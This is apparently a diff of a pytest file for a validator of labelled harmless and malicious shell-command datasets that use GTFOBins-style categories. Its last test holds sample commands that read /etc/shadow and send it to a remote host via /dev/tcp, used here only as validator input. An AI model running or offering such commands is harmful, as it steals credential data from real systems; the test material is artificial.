@@ -37,8 +37,11 @@ def test_clean_samples_have_no_problems():
         (harmless(cluster="a\x7f"), "cluster", "contains the control character U+007F"),
         (harmless(cluster="c" * 201), "cluster", "has 201 characters, at most 200 are allowed"),
         (harmless(metadata={"k": "\x85"}), "metadata", "contains the control character U+0085"),
-        (malicious(category=None), "category", "a malicious command needs one of bind-shell, "),
-        (malicious(category="sudo"), "category", "'sudo' is none of bind-shell, "),
+        (malicious(category=None), "category", "a malicious command needs one, such as"),
+        (malicious(category="a,b"), "category", "'a,b' is no name: use up to 100 letters"),
+        (malicious(category="x" * 101), "category", "'" + "x" * 100 + "' is no name"),
+        (malicious(category=" a"), "category", "' a' is no name"),
+        (malicious(category="a\x1b"), "category", "'a\\x1b' is no name"),
         (harmless(category="shell"), "category", "a harmless command has none; leave it empty"),
     ],
 )
@@ -47,6 +50,29 @@ def test_errors(sample, field, message):
     problem = only([sample])
     assert (problem.severity, problem.record, problem.field) == (Severity.ERROR, 1, field)
     assert problem.message.startswith(message)
+
+
+@pytest.mark.parametrize(
+    "category", ["sudo", "T1059.004", "privilege escalation", "Führung", "x" * 100, "a/b:c+d_e-f"]
+)
+def test_other_datasets_may_have_other_categories(category):
+    """A name that is none of GTFOBins' functions passes without a word."""
+    assert problems([malicious(category=category)], strict=True) == ()
+
+
+@pytest.mark.parametrize("category", ["File Read", "file_read", "fileread", "SHELL", "downlaod"])
+def test_a_misspelt_category_is_a_warning(category):
+    """What is nearly one of GTFOBins' functions is probably meant to be it."""
+    problem = only([malicious(category=category)])
+    assert (problem.severity, problem.field) == (Severity.WARNING, "category")
+    assert problem.message.startswith(f"{category!a} is nearly '")
+
+
+def test_a_variable_that_the_command_sets_is_no_placeholder():
+    """Only a variable without a value is left over."""
+    assert problems([malicious("LFILE=/etc/shadow\ncat $LFILE")]) == ()
+    problem = only([malicious("LFILE=/etc/shadow\ncat $LFILE >/dev/tcp/$RHOST/1")])
+    assert problem.message == "placeholder '$RHOST' was never filled in"
 
 
 def test_longest_allowed_command():
